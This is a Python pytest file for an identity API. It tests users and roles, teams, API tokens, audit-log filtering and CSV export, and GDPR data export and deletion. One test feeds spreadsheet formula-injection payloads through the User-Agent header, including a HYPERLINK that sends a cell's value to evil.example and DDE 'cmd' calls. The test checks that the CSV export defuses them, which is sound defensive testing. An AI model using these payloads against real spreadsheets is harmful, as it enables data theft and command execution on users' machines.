"""The identity API on real PostgreSQL: users and roles, teams, personal API tokens, the audit log
(filters, pages, CSV), and the GDPR export and deletion."""

from __future__ import annotations

import csv
import io
import json
import threading
import uuid
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import event, func, select, text

from app.extensions import db
from app.models import ApiToken, AuditLog, Execution, Job, Team, User
from app.services import api_tokens, identity, users
from app.services.actors import SYSTEM

JOB = {"name": "nightly-export", "job_type": "bash", "script": "echo hi", "schedule": None}
WEBHOOK = "https://hooks.slack.com/services/T000/B000/webhooksecretvalue"
SECRET_VALUE = "correct horse battery staple 42"


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def count(app, model, *where) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def audit_rows(app, *where) -> list[AuditLog]:
    with app.app_context():
        rows = list(db.session.scalars(select(AuditLog).where(*where).order_by(AuditLog.id)))
        db.session.expunge_all()
        return rows


def table_text(app, table: str) -> str:
    with app.app_context():
        return db.session.scalar(text(f"SELECT coalesce(string_agg(t::text, E'\\n'), '') FROM {table} t"))


@pytest.fixture
def people(app, admin):
    """Alice creates jobs in team "data", Vera views that team's jobs. Ids, tokens and headers."""
    with app.app_context():
        team = Team(name="data")
        db.session.add(team)
        db.session.flush()
        found = {"team_id": str(team.id)}
        for name, role in (("alice", "job_creator"), ("vera", "team_viewer")):
            user = users.create_user(actor=SYSTEM, email=f"{name}@example.com", role=role, team_id=team.id)
            _, token = api_tokens.issue_token(actor=SYSTEM, user=user, name="test")
            found[name] = {"id": str(user.id), "token": token, "headers": bearer(token)}
        found["admin"] = {"id": str(db.session.scalar(select(User.id).where(User.email == "admin"))),
                          "headers": admin}
        db.session.commit()
    return found


# --- users --------------------------------------------------------------------------------------

def test_an_admin_creates_reads_and_lists_users(app, client, admin, people):
    # When an admin creates a user in a team
    response = client.post("/api/v1/users", json={"email": "maya@example.com", "role": "job_creator",
                                                  "team_id": people["team_id"], "display_name": "Maya"},
                           headers=admin)
    # Then it is there with its role and team
    assert response.status_code == 201, response.json
    maya = response.json
    assert (maya["email"], maya["role"], maya["team_id"], maya["is_active"]) == \
        ("maya@example.com", "job_creator", people["team_id"], True)
    assert client.get(f"/api/v1/users/{maya['id']}", headers=admin).json["display_name"] == "Maya"
    # And the list shows every user, by email, with a total
    listing = client.get("/api/v1/users?page_size=2", headers=admin)
    assert [u["email"] for u in listing.json] == ["admin", "alice@example.com"]
    assert json.loads(listing.headers["X-Pagination"])["total"] == 4
    # And one audit row records the creation, by the admin
    rows = audit_rows(app, AuditLog.resource_id == maya["id"])
    assert [(r.action, r.email, r.changes["role"]) for r in rows] == \
        [("user_created", "admin", {"old": None, "new": "job_creator"})]


BAD_USERS = [
    ("missing email", {"role": "admin"}, {"email"}),
    ("not an email", {"email": "maya", "role": "admin"}, {"email"}),
    ("email too long", {"email": "m@" + "x" * 260, "role": "admin"}, {"email"}),
    ("unknown role", {"email": "maya@example.com", "role": "superuser"}, {"role"}),
    ("missing role", {"email": "maya@example.com"}, {"role"}),
    ("unknown team", {"email": "maya@example.com", "role": "admin", "team_id": str(uuid.uuid4())}, {"team_id"}),
    ("team not a uuid", {"email": "maya@example.com", "role": "admin", "team_id": "data"}, {"team_id"}),
    ("unknown field", {"email": "maya@example.com", "role": "admin", "password": "x"}, {"password"}),
    ("two bad fields", {"email": "maya", "role": "root"}, {"email", "role"}),
]


@pytest.mark.parametrize("case, body, fields", BAD_USERS, ids=[c[0] for c in BAD_USERS])
def test_a_bad_user_gets_422_naming_every_bad_field_and_writes_nothing(app, client, admin, case, body, fields):
    users_before, audit_before = count(app, User), count(app, AuditLog)
    response = client.post("/api/v1/users", json=body, headers=admin)
    assert response.status_code == 422, response.json
    assert set(response.json["errors"]["json"]) == fields
    assert (count(app, User), count(app, AuditLog)) == (users_before, audit_before)


def test_a_duplicate_email_is_422_whatever_its_case(app, client, admin):
    assert client.post("/api/v1/users", json={"email": "maya@example.com", "role": "admin"},
                       headers=admin).status_code == 201
    response = client.post("/api/v1/users", json={"email": "Maya@Example.com", "role": "team_viewer"},
                           headers=admin)
    assert response.status_code == 422
    assert "already exists" in response.json["errors"]["json"]["email"][0]
    assert count(app, User, func.lower(User.email) == "maya@example.com") == 1


def test_patch_changes_role_team_and_active_flag_with_one_audit_row_each(app, client, admin, people):
    alice = people["alice"]["id"]
    url = f"/api/v1/users/{alice}"
    # When an admin makes Alice a viewer / Then her role changes, audited as a role change
    response = client.patch(url, json={"role": "team_viewer"}, headers=admin)
    assert response.status_code == 200, response.json
    assert response.json["role"] == "team_viewer"
    # When she is moved out of her team and disabled
    response = client.patch(url, json={"team_id": None, "is_active": False}, headers=admin)
    assert response.status_code == 200
    assert (response.json["team_id"], response.json["is_active"]) == (None, False)
    # And a PATCH that changes nothing writes nothing
    assert client.patch(url, json={"is_active": False}, headers=admin).status_code == 200
    rows = audit_rows(app, AuditLog.resource_id == alice, AuditLog.action != "user_created")
    assert [(r.action, r.changes) for r in rows] == [
        ("user_role_changed", {"role": {"old": "job_creator", "new": "team_viewer"}}),
        ("user_updated", {"team_id": {"old": people["team_id"], "new": None},
                          "is_active": {"old": True, "new": False}}),
    ]


@pytest.mark.parametrize("body, field", [({"role": "owner"}, "role"), ({"team_id": str(uuid.uuid4())}, "team_id"),
                                         ({"email": "x@example.com"}, "email"),
                                         ({"is_active": "perhaps"}, "is_active")])
def test_a_bad_patch_gets_422_naming_the_field(app, client, admin, people, body, field):
    response = client.patch(f"/api/v1/users/{people['alice']['id']}", json=body, headers=admin)
    assert response.status_code == 422
    assert field in response.json["errors"]["json"]
    with app.app_context():
        assert db.session.get(User, uuid.UUID(people["alice"]["id"])).role == "job_creator"


@pytest.mark.parametrize("change", [{"role": "job_creator"}, {"role": "team_viewer"}, {"is_active": False},
                                    {"role": "job_creator", "is_active": True}])
def test_the_last_admin_cannot_be_demoted_or_disabled(app, client, admin, people, change):
    # Given one admin (Vera is a viewer, and a disabled admin does not count)
    with app.app_context():
        users.create_user(actor=SYSTEM, email="former@example.com", role="admin").is_active = False
        db.session.commit()
    audit_before = count(app, AuditLog)
    # When the admin's own role or flag is changed / Then 409 with what to do, and nothing changes
    response = client.patch(f"/api/v1/users/{people['admin']['id']}", json=change, headers=admin)
    assert response.status_code == 409
    assert "last active admin" in response.json["message"]
    with app.app_context():
        user = db.session.get(User, uuid.UUID(people["admin"]["id"]))
        assert (user.role, user.is_active) == ("admin", True)
    assert count(app, AuditLog) == audit_before
    assert client.get("/api/v1/users", headers=admin).status_code == 200
    # And the last admin cannot be deleted either
    assert client.delete(f"/api/v1/users/{people['admin']['id']}", headers=admin).status_code == 409
    assert count(app, User, User.role == "admin") == 2


def test_with_a_second_admin_the_first_may_step_down(app, client, admin, people):
    assert client.patch(f"/api/v1/users/{people['vera']['id']}", json={"role": "admin"},
                        headers=admin).status_code == 200
    response = client.patch(f"/api/v1/users/{people['admin']['id']}", json={"role": "job_creator"},
                            headers=admin)
    assert response.status_code == 200 and response.json["role"] == "job_creator"
    # And now Vera is the last admin
    assert client.patch(f"/api/v1/users/{people['vera']['id']}", json={"role": "team_viewer"},
                        headers=people["vera"]["headers"]).status_code == 409


def test_two_admins_demoting_each_other_at_once_leave_one_admin(app, client, admin, people):
    # Given two admins
    vera = people["vera"]
    assert client.patch(f"/api/v1/users/{vera['id']}", json={"role": "admin"}, headers=admin).status_code == 200
    # When each demotes the other at the same moment: the first pauses right after its check
    # that another admin remains, until the second has finished (or 2 s have passed)
    engine = app.extensions["jobplane_db"].engine
    first_checked, second_done = threading.Event(), threading.Event()
    outcomes: dict[str, int] = {}

    def pause_first(_conn, _cursor, statement, _params, _context, _many):
        if threading.current_thread().name == "first" and "FROM users" in statement \
                and "users.role = " in statement and not first_checked.is_set():
            first_checked.set()
            second_done.wait(timeout=2)

    def demote(target: str, headers: dict) -> None:
        response = app.test_client().patch(f"/api/v1/users/{target}", json={"role": "job_creator"},
                                           headers=headers)
        outcomes[threading.current_thread().name] = response.status_code

    def second() -> None:
        first_checked.wait(timeout=10)
        demote(people["admin"]["id"], vera["headers"])
        second_done.set()

    event.listen(engine, "after_cursor_execute", pause_first)
    try:
        threads = [threading.Thread(target=demote, args=(vera["id"], admin), name="first"),
                   threading.Thread(target=second, name="second")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30)
    finally:
        event.remove(engine, "after_cursor_execute", pause_first)
    # Then one of them wins and the other is refused: an active admin remains
    assert first_checked.is_set()
    assert sorted(outcomes.values()) == [200, 409], outcomes
    assert count(app, User, User.role == "admin", User.is_active.is_(True)) == 1


def test_a_disabled_users_token_is_refused_at_once_and_works_again_when_enabled(app, client, admin, people):
    alice = people["alice"]
    assert client.get("/api/v1/me", headers=alice["headers"]).status_code == 200
    assert client.patch(f"/api/v1/users/{alice['id']}", json={"is_active": False}, headers=admin).status_code == 200
    response = client.get("/api/v1/jobs", headers=alice["headers"])
    assert response.status_code == 401
    assert "disabled" in response.json["message"]
    assert client.patch(f"/api/v1/users/{alice['id']}", json={"is_active": True}, headers=admin).status_code == 200
    assert client.get("/api/v1/jobs", headers=alice["headers"]).status_code == 200


def test_users_see_themselves_but_not_the_user_list(client, people):
    alice = people["alice"]
    me = client.get("/api/v1/me", headers=alice["headers"])
    assert (me.status_code, me.json["email"], me.json["role"]) == (200, "alice@example.com", "job_creator")
    assert client.get(f"/api/v1/users/{alice['id']}", headers=alice["headers"]).status_code == 200
    assert client.get("/api/v1/users", headers=alice["headers"]).status_code == 403
    assert client.post("/api/v1/users", json={"email": "x@example.com", "role": "admin"},
                       headers=alice["headers"]).status_code == 403
    assert client.patch(f"/api/v1/users/{alice['id']}", json={"role": "admin"},
                        headers=alice["headers"]).status_code == 403


def test_a_user_linked_to_a_single_sign_on_subject_is_found_by_the_configured_issuer(app, client, admin):
    # Given single sign-on (the issuer as configured, with a trailing slash)
    app.config["OIDC_ISSUER"] = "https://login.example.com/tenant/v2.0/"
    # When an admin creates a pipeline's user linked to its service principal's subject
    response = client.post("/api/v1/users", json={"email": "pipeline@example.com", "role": "job_creator",
                                                  "oidc_subject": "spn-0042"}, headers=admin)
    assert response.status_code == 201, response.json
    # Then an access token for that subject (with no email in it) maps to that user
    with app.app_context():
        found = identity.user_for_claims("https://login.example.com/tenant/v2.0", {"sub": "spn-0042"}, create=False)
        assert str(found.id) == response.json["id"]


def test_a_subject_cannot_be_linked_without_single_sign_on(app, client, admin):
    before = count(app, User)
    response = client.post("/api/v1/users", json={"email": "pipeline@example.com", "role": "job_creator",
                                                  "oidc_subject": "spn-0042"}, headers=admin)
    assert response.status_code == 422
    assert "JOBPLANE_OIDC_ISSUER" in response.json["errors"]["json"]["oidc_subject"][0]
    assert count(app, User) == before


# --- teams --------------------------------------------------------------------------------------

def test_create_rename_and_list_teams(app, client, admin):
    created = client.post("/api/v1/teams", json={"name": "  platform "}, headers=admin)
    assert created.status_code == 201, created.json
    assert created.json["name"] == "platform"
    team_id = created.json["id"]
    renamed = client.patch(f"/api/v1/teams/{team_id}", json={"name": "platform-eng"}, headers=admin)
    assert renamed.status_code == 200 and renamed.json["name"] == "platform-eng"
    assert [t["name"] for t in client.get("/api/v1/teams", headers=admin).json] == ["platform-eng"]
    rows = audit_rows(app, AuditLog.resource_type == "team")
    assert [(r.action, r.changes["name"]) for r in rows] == [
        ("team_created", {"old": None, "new": "platform"}),
        ("team_renamed", {"old": "platform", "new": "platform-eng"})]


@pytest.mark.parametrize("body", [{}, {"name": ""}, {"name": "   "}, {"name": "x" * 256}, {"name": 7},
                                  {"name": "DATA"}])
def test_a_bad_or_duplicate_team_name_is_422_naming_name(app, client, admin, people, body):
    before = count(app, Team)
    response = client.post("/api/v1/teams", json=body, headers=admin)
    assert response.status_code == 422, response.json
    assert "name" in response.json["errors"]["json"]
    assert count(app, Team) == before


def test_renaming_to_another_teams_name_is_422_and_to_its_own_is_fine(app, client, admin, people):
    other = client.post("/api/v1/teams", json={"name": "ops"}, headers=admin).json
    assert client.patch(f"/api/v1/teams/{other['id']}", json={"name": "Data"}, headers=admin).status_code == 422
    assert client.patch(f"/api/v1/teams/{other['id']}", json={"name": "ops"}, headers=admin).status_code == 200
    assert count(app, AuditLog, AuditLog.action == "team_renamed") == 0


def test_deleting_a_team_keeps_its_members_and_jobs_without_a_team(app, client, admin, people):
    # Given a job of Alice's, which belongs to her team
    job = client.post("/api/v1/jobs", json=JOB, headers=people["alice"]["headers"]).json
    assert job["team_id"] == people["team_id"]
    # When the team is deleted
    response = client.delete(f"/api/v1/teams/{people['team_id']}", headers=admin)
    assert response.status_code == 204
    # Then the members and the job stay, with no team
    for name in ("alice", "vera"):
        user = client.get(f"/api/v1/users/{people[name]['id']}", headers=admin).json
        assert user["team_id"] is None and user["is_active"] is True
    assert client.get(f"/api/v1/jobs/{job['id']}", headers=admin).json["team_id"] is None
    assert client.get(f"/api/v1/teams/{people['team_id']}", headers=admin).status_code == 404
    # And the deletion is audited with the member count
    (row,) = audit_rows(app, AuditLog.action == "team_deleted")
    assert row.changes == {"name": {"old": "data", "new": None}, "members": {"old": 2, "new": 0}}


def test_only_admins_manage_teams(client, people):
    viewer = people["vera"]["headers"]
    assert client.post("/api/v1/teams", json={"name": "x"}, headers=viewer).status_code == 403
    assert client.delete(f"/api/v1/teams/{people['team_id']}", headers=viewer).status_code == 403
    # A member may see their own team
    assert client.get(f"/api/v1/teams/{people['team_id']}", headers=viewer).json["name"] == "data"


# --- tokens -------------------------------------------------------------------------------------

def test_a_new_token_is_shown_once_and_only_its_hash_is_stored(app, client, people):
    alice = people["alice"]
    # When Alice creates a token
    response = client.post("/api/v1/tokens", json={"name": "airflow"}, headers=alice["headers"])
    assert response.status_code == 201, response.json
    token = response.json["token"]
    # Then it starts with jp_, expires in 90 days by default, and works
    assert token.startswith("jp_") and len(token) > 40
    assert response.json["prefix"] == token[:8]
    expires = datetime.fromisoformat(response.json["expires_at"])
    assert abs(expires - (datetime.now(timezone.utc) + timedelta(days=90))) < timedelta(minutes=1)
    assert client.get("/api/v1/me", headers=bearer(token)).json["id"] == alice["id"]
    # And the list never shows it
    listing = client.get("/api/v1/tokens", headers=alice["headers"])
    assert {t["name"] for t in listing.json} == {"test", "airflow"}
    assert all("token" not in t and "token_hash" not in t for t in listing.json)
    assert token not in listing.get_data(as_text=True)
    # And the database holds its hash only
    with app.app_context():
        stored = db.session.scalar(select(ApiToken).where(ApiToken.id == uuid.UUID(response.json["id"])))
        assert stored.token_hash == api_tokens.hash_token(token)
    assert token not in table_text(app, "api_tokens") and token not in table_text(app, "audit_logs")


@pytest.mark.parametrize("days", [0, -1, 366, 10_000, "soon", "30", 1.5, True])
def test_token_expiry_outside_1_to_365_days_is_422(app, client, people, days):
    before = count(app, ApiToken)
    response = client.post("/api/v1/tokens", json={"name": "x", "expires_in_days": days},
                           headers=people["alice"]["headers"])
    assert response.status_code == 422, response.json
    assert "expires_in_days" in response.json["errors"]["json"]
    assert count(app, ApiToken) == before


@pytest.mark.parametrize("days", [1, 365])
def test_token_expiry_at_the_bounds_is_accepted(client, people, days):
    response = client.post("/api/v1/tokens", json={"name": "x", "expires_in_days": days},
                           headers=people["alice"]["headers"])
    assert response.status_code == 201
    expires = datetime.fromisoformat(response.json["expires_at"])
    assert abs(expires - (datetime.now(timezone.utc) + timedelta(days=days))) < timedelta(minutes=1)


@pytest.mark.parametrize("body", [{}, {"name": ""}, {"name": " "}, {"name": "x" * 101}])
def test_a_token_needs_a_name(client, people, body):
    response = client.post("/api/v1/tokens", json=body, headers=people["alice"]["headers"])
    assert response.status_code == 422
    assert "name" in response.json["errors"]["json"]


def test_an_expired_token_is_refused(app, client, people):
    with app.app_context():
        user = db.session.get(User, uuid.UUID(people["alice"]["id"]))
        _, token = api_tokens.issue_token(actor=SYSTEM, user=user, name="old",
                                          expires_at=datetime.now(timezone.utc) - timedelta(seconds=1))
        db.session.commit()
    assert client.get("/api/v1/me", headers=bearer(token)).status_code == 401


def test_a_revoked_token_is_refused_at_once_and_others_still_work(app, client, people):
    alice = people["alice"]
    created = client.post("/api/v1/tokens", json={"name": "ci"}, headers=alice["headers"]).json
    assert client.get("/api/v1/me", headers=bearer(created["token"])).status_code == 200
    # When she revokes it
    response = client.delete(f"/api/v1/tokens/{created['id']}", headers=alice["headers"])
    assert response.status_code == 200
    assert response.json["revoked_at"] is not None
    # Then it is refused on the very next request, and her other token still works
    refused = client.get("/api/v1/me", headers=bearer(created["token"]))
    assert refused.status_code == 401 and "revoked" in refused.json["message"]
    assert client.get("/api/v1/me", headers=alice["headers"]).status_code == 200
    # And revoking twice changes nothing more
    assert client.delete(f"/api/v1/tokens/{created['id']}", headers=alice["headers"]).status_code == 200
    assert [r.action for r in audit_rows(app, AuditLog.resource_id == created["id"])] == \
        ["token_created", "token_revoked"]


def test_others_tokens_are_not_found_except_for_admins(client, admin, people):
    alices = client.post("/api/v1/tokens", json={"name": "ci"}, headers=people["alice"]["headers"]).json
    assert client.delete(f"/api/v1/tokens/{alices['id']}", headers=people["vera"]["headers"]).status_code == 404
    assert client.get("/api/v1/me", headers=bearer(alices["token"])).status_code == 200
    assert client.delete(f"/api/v1/tokens/{alices['id']}", headers=admin).status_code == 200
    assert client.get("/api/v1/me", headers=bearer(alices["token"])).status_code == 401


def test_last_used_at_is_recorded(client, people):
    created = client.post("/api/v1/tokens", json={"name": "ci"}, headers=people["alice"]["headers"]).json
    assert created["last_used_at"] is None
    before = datetime.now(timezone.utc)
    assert client.get("/api/v1/jobs", headers=bearer(created["token"])).status_code == 200
    (listed,) = [t for t in client.get("/api/v1/tokens", headers=people["alice"]["headers"]).json
                 if t["id"] == created["id"]]
    assert listed["last_used_at"] is not None
    assert datetime.fromisoformat(listed["last_used_at"]) >= before - timedelta(seconds=1)


# --- the audit log ------------------------------------------------------------------------------

@pytest.fixture
def trail(app, client, admin, people):
    """Audited changes by the admin and Alice, with a time between them."""
    client.post("/api/v1/teams", json={"name": "ops"}, headers=admin)
    client.post("/api/v1/teams", json={"name": "sre"}, headers=admin)
    between = datetime.now(timezone.utc)
    job = client.post("/api/v1/jobs", json=JOB, headers=people["alice"]["headers"]).json
    client.post(f"/api/v1/jobs/{job['id']}/pause", headers=people["alice"]["headers"])
    return {"between": between, "job_id": job["id"]}


def audit_list(client, headers, **params):
    response = client.get("/api/v1/audit-logs", query_string=params, headers=headers)
    assert response.status_code == 200, response.json
    return response


def test_audit_log_filters(app, client, admin, people, trail):
    # by action
    assert {r["action"] for r in audit_list(client, admin, action="team_created").json} == {"team_created"}
    assert len(audit_list(client, admin, action="team_created").json) == 2
    # by user
    alices = audit_list(client, admin, user_id=people["alice"]["id"]).json
    assert [r["action"] for r in alices] == ["job_paused", "job_created"]  # newest first
    assert {r["email"] for r in alices} == {"alice@example.com"}
    # by resource
    job_rows = audit_list(client, admin, resource_type="job", resource_id=trail["job_id"]).json
    assert [r["action"] for r in job_rows] == ["job_paused", "job_created"]
    assert audit_list(client, admin, resource_type="job", resource_id=str(uuid.uuid4())).json == []
    # by time
    since = trail["between"].isoformat()
    assert {r["action"] for r in audit_list(client, admin, since=since).json} == {"job_created", "job_paused"}
    assert "job_created" not in {r["action"] for r in audit_list(client, admin, until=since).json}
    assert "team_created" in {r["action"] for r in audit_list(client, admin, until=since).json}
    # a time without a zone, or an unknown format, is refused with the field named
    for params in ({"since": "2026-01-01T00:00:00"}, {"format": "xml"}, {"user_id": "alice"}):
        response = client.get("/api/v1/audit-logs", query_string=params, headers=admin)
        assert response.status_code == 422
        assert set(params) <= set(response.json["errors"]["query"])


def test_audit_log_pages(client, admin, trail):
    total = len(audit_list(client, admin, page_size=100).json)
    first = audit_list(client, admin, page_size=2)
    pages = json.loads(first.headers["X-Pagination"])
    assert (pages["total"], pages["page"], pages["total_pages"]) == (total, 1, -(-total // 2))
    second = audit_list(client, admin, page_size=2, page=2)
    assert len(first.json) == 2 and len(second.json) == 2
    assert first.json[-1]["id"] > second.json[0]["id"]  # newest first, no overlap
    filtered = audit_list(client, admin, action="team_created", page_size=1)
    assert json.loads(filtered.headers["X-Pagination"])["total"] == 2


def test_audit_log_is_for_admins_only(client, people, trail):
    for name in ("alice", "vera"):
        assert client.get("/api/v1/audit-logs", headers=people[name]["headers"]).status_code == 403
        assert client.get("/api/v1/audit-logs?format=csv", headers=people[name]["headers"]).status_code == 403


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_csv_export_has_a_header_row_and_every_matching_row_oldest_first(client, admin, people, trail):
    response = client.get("/api/v1/audit-logs?format=csv&page_size=1", headers=admin)
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert json.loads(response.headers["X-Pagination"])["total"] == len(body)
    assert header == ["id", "created_at", "user_id", "email", "action", "resource_type", "resource_id", "changes",
                      "ip_address", "user_agent", "request_id", "row_hash"]
    listed = audit_list(client, admin, page_size=100).json
    assert [int(r[0]) for r in body] == sorted(r["id"] for r in listed)  # every row, not one page
    # And filters apply
    only_alice = read_csv(client.get(f"/api/v1/audit-logs?format=csv&user_id={people['alice']['id']}",
                                     headers=admin))[1:]
    assert [r[4] for r in only_alice] == ["job_created", "job_paused"]
    assert {r[3] for r in only_alice} == {"alice@example.com"}
    assert json.loads(only_alice[1][7]) == {"status": {"old": "active", "new": "disabled"}}


@pytest.mark.parametrize("agent", ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"])
def test_csv_export_defuses_cells_a_spreadsheet_would_run(app, client, admin, agent):
    # Given a change made by a client whose User-Agent is a formula
    client.post("/api/v1/teams", json={"name": "ops"}, headers={**admin, "User-Agent": agent})
    # When the audit log is exported
    rows = read_csv(client.get("/api/v1/audit-logs?format=csv&action=team_created", headers=admin))
    (row,) = rows[1:]
    # Then the cell is quoted so that it is text, and keeps the whole value
    assert row[9] == "'" + agent
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in row)


def test_csv_export_defuses_a_formula_in_an_email(client, admin):
    client.post("/api/v1/users", json={"email": "-1+1@example.com", "role": "admin"}, headers=admin)
    user = next(u for u in client.get("/api/v1/users", headers=admin).json if u["email"] == "-1+1@example.com")
    with client.application.app_context():
        db_user = db.session.get(User, uuid.UUID(user["id"]))
        _, plain = api_tokens.issue_token(actor=SYSTEM, user=db_user, name="x")
        db.session.commit()
    client.post("/api/v1/teams", json={"name": "ops"}, headers=bearer(plain))
    rows = read_csv(client.get("/api/v1/audit-logs?format=csv&action=team_created", headers=admin))
    assert rows[1][3] == "'-1+1@example.com"


# --- GDPR: export and deletion ------------------------------------------------------------------

@pytest.fixture
def alices_data(app, client, people):
    """Alice's job (with a secret and a webhook), two of its executions, and a second token."""
    alice = people["alice"]
    job = client.post("/api/v1/jobs", json={**JOB, "notification_slack_webhook": WEBHOOK},
                      headers=alice["headers"]).json
    assert client.put(f"/api/v1/jobs/{job['id']}/secrets/DB_PASSWORD", json={"value": SECRET_VALUE},
                      headers=alice["headers"]).status_code == 201
    second = client.post("/api/v1/tokens", json={"name": "laptop"}, headers=alice["headers"]).json
    with app.app_context():
        now = datetime.now(timezone.utc)
        executions = [Execution(job_id=uuid.UUID(job["id"]), scheduled_for=now - timedelta(minutes=m),
                                status="success", triggered_by="manual", claim_token="claim-" + "c" * 20)
                      for m in (1, 2)]
        db.session.add_all(executions)
        db.session.commit()
        execution_ids = sorted(str(e.id) for e in executions)
        token_hashes = list(db.session.scalars(select(ApiToken.token_hash)
                                               .where(ApiToken.user_id == uuid.UUID(alice["id"]))))
    return {"job_id": job["id"], "execution_ids": execution_ids, "tokens": [alice["token"], second["token"]],
            "token_hashes": token_hashes}


def assert_is_alices_export(response, people, alices_data):
    assert response.status_code == 200, response.json
    export = response.json
    assert export["user"]["email"] == "alice@example.com" and export["user"]["id"] == people["alice"]["id"]
    assert export["team"]["name"] == "data"
    assert [j["id"] for j in export["jobs"]] == [alices_data["job_id"]]
    assert sorted(e["id"] for e in export["executions"]) == alices_data["execution_ids"]
    assert {t["name"] for t in export["api_tokens"]} == {"test", "laptop"}
    actions = [r["action"] for r in export["audit_logs"]]
    assert actions[:3] == ["job_created", "secret_created", "token_created"]
    assert all(r["user_id"] == people["alice"]["id"] for r in export["audit_logs"])
    # never a token, a token's hash, a secret value, a claim token or the webhook
    body = response.get_data(as_text=True)
    for hidden in (*alices_data["tokens"], *alices_data["token_hashes"], SECRET_VALUE, "claim-", WEBHOOK,
                   "webhooksecretvalue"):
        assert hidden not in body, hidden
    for token in export["api_tokens"]:
        assert "token_hash" not in token
    assert export["jobs"][0]["notification_slack_webhook"] == "https://hooks.slack.com/****alue"


def test_a_user_exports_their_own_data(client, people, alices_data):
    response = client.get("/api/v1/me/export", headers=people["alice"]["headers"])
    assert_is_alices_export(response, people, alices_data)


def test_an_admin_exports_a_users_data(client, admin, people, alices_data):
    response = client.get(f"/api/v1/users/{people['alice']['id']}/export", headers=admin)
    assert_is_alices_export(response, people, alices_data)


def test_others_cannot_export_a_users_data(client, people, alices_data):
    response = client.get(f"/api/v1/users/{people['alice']['id']}/export", headers=people["vera"]["headers"])
    assert response.status_code == 403


def test_deleting_a_user_removes_their_jobs_and_executions_and_returns_counts(app, client, admin, people,
                                                                             alices_data):
    alice = people["alice"]
    rows_with_email = count(app, AuditLog, AuditLog.user_id == uuid.UUID(alice["id"]))
    # When an admin deletes Alice
    response = client.delete(f"/api/v1/users/{alice['id']}", headers=admin)
    # Then the counts of what went come back
    assert response.status_code == 200, response.json
    assert response.json == {"jobs": 1, "executions": 2, "audit_rows_pseudonymized": rows_with_email}
    # And her jobs, executions, secrets and tokens are gone; her tokens no longer work
    job_id = uuid.UUID(alices_data["job_id"])
    assert count(app, Job, Job.id == job_id) == 0
    assert count(app, Execution, Execution.job_id == job_id) == 0
    assert count(app, ApiToken, ApiToken.user_id == uuid.UUID(alice["id"])) == 0
    assert SECRET_VALUE not in table_text(app, "job_secrets")
    assert client.get("/api/v1/me", headers=alice["headers"]).status_code == 401
    assert client.get(f"/api/v1/users/{alice['id']}", headers=admin).status_code == 404
    # And her audit rows stay, without her email; Vera's are untouched
    kept = audit_rows(app, AuditLog.user_id == uuid.UUID(alice["id"]))
    assert len(kept) == rows_with_email and all(r.email is None for r in kept)
    assert "alice@example.com" not in table_text(app, "audit_logs")
    # And a job creator may not delete users
    assert client.delete(f"/api/v1/users/{people['vera']['id']}", headers=people["vera"]["headers"]).status_code == 403
